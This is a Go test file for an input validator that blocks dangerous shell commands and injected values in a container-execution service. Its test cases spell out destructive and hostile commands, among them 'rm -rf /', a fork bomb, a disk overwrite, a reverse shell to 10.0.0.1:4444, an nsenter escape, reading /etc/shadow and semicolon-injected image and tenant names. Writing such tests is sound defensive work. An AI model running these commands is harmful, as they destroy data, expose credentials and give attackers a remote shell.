package security

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestValidateInputSafe(t *testing.T) {
	for _, input := range []string{"ls -la", "cd /root && cat notes.txt", "git status", "echo hello"} {
		res := ValidateInput(input)
		assert.True(t, res.Safe, "expected safe: %q", input)
		assert.Equal(t, SeveritySafe, res.Severity)
	}
}

func TestValidateInputBlockedCommands(t *testing.T) {
	res := ValidateInput("rm -rf /")
	assert.False(t, res.Safe)
	assert.Equal(t, SeverityCritical, res.Severity)
	assert.NotEmpty(t, res.BlockedPattern)

	res = ValidateInput(":(){ :|:& };:")
	assert.False(t, res.Safe)
	assert.Equal(t, SeverityCritical, res.Severity)
}

func TestValidateInputDangerousPatterns(t *testing.T) {
	cases := []string{
		"dd if=/dev/urandom of=/dev/sda1",
		"bash -i >& /dev/tcp/10.0.0.1/4444",
		"nsenter --target 1 --mount",
		"cat /etc/shadow",
		"chmod 777 /etc",
		"crontab -e",
	}
	for _, input := range cases {
		res := ValidateInput(input)
		assert.False(t, res.Safe, "expected blocked: %q", input)
		assert.Equal(t, SeverityCritical, res.Severity, input)
	}
}

func TestValidateInputPathTraversal(t *testing.T) {
	res := ValidateInput("cat ../../../etc/hostname")
	assert.False(t, res.Safe)
	assert.Equal(t, SeverityWarning, res.Severity)

	res = ValidateInput("curl http://x/%2e%2e/secret")
	assert.False(t, res.Safe)
}

func TestValidateInputNullByte(t *testing.T) {
	res := ValidateInput("cat file\x00.txt")
	assert.False(t, res.Safe)
	assert.Equal(t, SeverityWarning, res.Severity)
}

func TestValidateInputLength(t *testing.T) {
	res := ValidateInput(strings.Repeat("a", 10001))
	assert.False(t, res.Safe)
	assert.Equal(t, SeverityWarning, res.Severity)

	res = ValidateInput(strings.Repeat("a", 10000))
	assert.True(t, res.Safe)
}

func TestValidateTenant(t *testing.T) {
	assert.True(t, ValidateTenant("user123"))
	assert.True(t, ValidateTenant("user_name"))
	assert.True(t, ValidateTenant("user-name.v2"))
	assert.False(t, ValidateTenant(""))
	assert.False(t, ValidateTenant("user;id"))
	assert.False(t, ValidateTenant(strings.Repeat("u", 256)))
}

func TestValidateImage(t *testing.T) {
	assert.True(t, ValidateImage("ubuntu:22.04"))
	assert.True(t, ValidateImage("registry.example.com/team/img:v1"))
	assert.False(t, ValidateImage("ubuntu; rm -rf /"))
	assert.False(t, ValidateImage(""))
	assert.False(t, ValidateImage("img$TAG"))
}

func TestSanitizeContainerName(t *testing.T) {
	assert.Equal(t, "my-container_1", SanitizeContainerName("my-container_1"))
	assert.Equal(t, "badname", SanitizeContainerName("bad;name"))
	assert.Len(t, SanitizeContainerName(strings.Repeat("x", 100)), 63)
}

func TestClientIP(t *testing.T) {
	assert.Equal(t, "1.2.3.4", ClientIP("1.2.3.4, 5.6.7.8", "", ""))
	assert.Equal(t, "1.2.3.4", ClientIP("", "1.2.3.4", ""))
	assert.Equal(t, "1.2.3.4:12345", ClientIP("", "", "1.2.3.4:12345"))
}
